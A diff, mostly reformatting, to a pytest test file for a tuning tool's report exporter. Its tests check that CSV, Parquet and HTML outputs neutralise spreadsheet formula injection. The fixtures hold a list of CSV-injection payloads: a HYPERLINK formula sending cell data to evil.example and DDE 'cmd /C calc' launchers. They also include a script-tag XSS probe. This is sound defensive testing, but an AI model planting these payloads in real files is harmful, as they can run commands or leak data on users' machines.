@@ -13,18 +13,21 @@ import pytest
 from tests.tuning.report.test_report import make_experiment
 from tuning.errors import UserError
 from tuning.report.formats import render, results_path, write
-from tuning.report.text import human_bytes
 from tuning.report.load import load_report
+from tuning.report.text import human_bytes
 from tuning.text import inert
 
 
 @pytest.fixture
 def report(tmp_path):
-    exp = make_experiment(tmp_path / "e", {
-        "a": ("TERMINATED", [0.5, 0.4, 0.3], {"checkpoint_000002/checkpoint.ckpt": "x" * 2048}),
-        "b": ("TERMINATED", [0.6], {}),
-        "c": ("ERROR", [math.nan], {"error.txt": "Traceback\nValueError: lr | bad\n"}),
-    })
+    exp = make_experiment(
+        tmp_path / "e",
+        {
+            "a": ("TERMINATED", [0.5, 0.4, 0.3], {"checkpoint_000002/checkpoint.ckpt": "x" * 2048}),
+            "b": ("TERMINATED", [0.6], {}),
+            "c": ("ERROR", [math.nan], {"error.txt": "Traceback\nValueError: lr | bad\n"}),
+        },
+    )
     return load_report(str(exp))
 
 
@@ -56,11 +59,19 @@ def test_csv_and_parquet_write_the_trials_and_every_result(report, tmp_path, fmt
     out = tmp_path / f"r.{fmt}"
     assert write(report, fmt, None, str(out)) == [str(out), str(results_path(str(out)))]
     trials, results = read(out).to_pylist(), read(tmp_path / f"r_results.{fmt}").to_pylist()
-    assert [(t["rank"], t["trial_id"], t["status"], t["val_loss"]) for t in trials] == \
-        [(1, "a", "completed", 0.3), (2, "b", "stopped_early", 0.6), (3, "c", "errored", None)]
+    assert [(t["rank"], t["trial_id"], t["status"], t["val_loss"]) for t in trials] == [
+        (1, "a", "completed", 0.3),
+        (2, "b", "stopped_early", 0.6),
+        (3, "c", "errored", None),
+    ]
     assert trials[0]["model.init_args.lr"] == 0.1 and trials[0]["checkpoint_bytes"] == 2048
-    assert [(r["trial_id"], r["training_iteration"]) for r in results] == [("a", 1), ("a", 2), ("a", 3), ("b", 1),
-                                                                          ("c", 1)]
+    assert [(r["trial_id"], r["training_iteration"]) for r in results] == [
+        ("a", 1),
+        ("a", 2),
+        ("a", 3),
+        ("b", 1),
+        ("c", 1),
+    ]
     nan = results[4]["val_loss"]
     assert results[2]["val_loss"] == 0.3 and (nan is None or math.isnan(nan))  # CSV has no NaN: read as null
 
@@ -93,21 +104,37 @@ def test_html_is_one_self_contained_page(report):
 
 
 def test_human_bytes():
-    assert [human_bytes(n) for n in (0, 1023, 1536, 5 * 1024 ** 3)] == ["0B", "1023B", "1.5K", "5.0G"]
+    assert [human_bytes(n) for n in (0, 1023, 1536, 5 * 1024**3)] == ["0B", "1023B", "1.5K", "5.0G"]
 
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture
 def hostile(tmp_path):
     """Trials whose string params could run as spreadsheet formulas, next to plain negative numbers."""
-    trials = {f"t{i}": ("TERMINATED", [0.1 * (i + 1)], {},
-                        {"model.init_args.act": text, "model.init_args.shift": -0.5 - i, "model.init_args.tag": "-1.5"})
-              for i, text in enumerate(HOSTILE)}
-    trials["t9"] = ("ERROR", [0.9], {"error.txt": "Traceback\nValueError: <script>alert(1)</script> a|b & c\\|\n"},
-                    {"model.init_args.act": "relu", "model.init_args.shift": 2.0, "model.init_args.tag": "ok"})
+    trials = {
+        f"t{i}": (
+            "TERMINATED",
+            [0.1 * (i + 1)],
+            {},
+            {"model.init_args.act": text, "model.init_args.shift": -0.5 - i, "model.init_args.tag": "-1.5"},
+        )
+        for i, text in enumerate(HOSTILE)
+    }
+    trials["t9"] = (
+        "ERROR",
+        [0.9],
+        {"error.txt": "Traceback\nValueError: <script>alert(1)</script> a|b & c\\|\n"},
+        {"model.init_args.act": "relu", "model.init_args.shift": 2.0, "model.init_args.tag": "ok"},
+    )
     space = {f"model.init_args.{key}": {"choice": [0]} for key in ("act", "shift", "tag")}
     return load_report(str(make_experiment(tmp_path / "e", trials, space=space)))
 
@@ -129,8 +156,11 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile, tmp_path):
 
 
 def test_csv_column_names_are_neutralised_too(tmp_path):
-    exp = make_experiment(tmp_path / "e", {"a": ("TERMINATED", [0.5], {}, {"=cmd|'/C calc'!A0": "x"})},
-                          space={"=cmd|'/C calc'!A0": {"choice": ["x"]}})
+    exp = make_experiment(
+        tmp_path / "e",
+        {"a": ("TERMINATED", [0.5], {}, {"=cmd|'/C calc'!A0": "x"})},
+        space={"=cmd|'/C calc'!A0": {"choice": ["x"]}},
+    )
     header = render(load_report(str(exp)), "csv").splitlines()[0]
     names = next(csv.reader([header]))
     assert "'=cmd|'/C calc'!A0" in names and not any(name.startswith("=") for name in names)
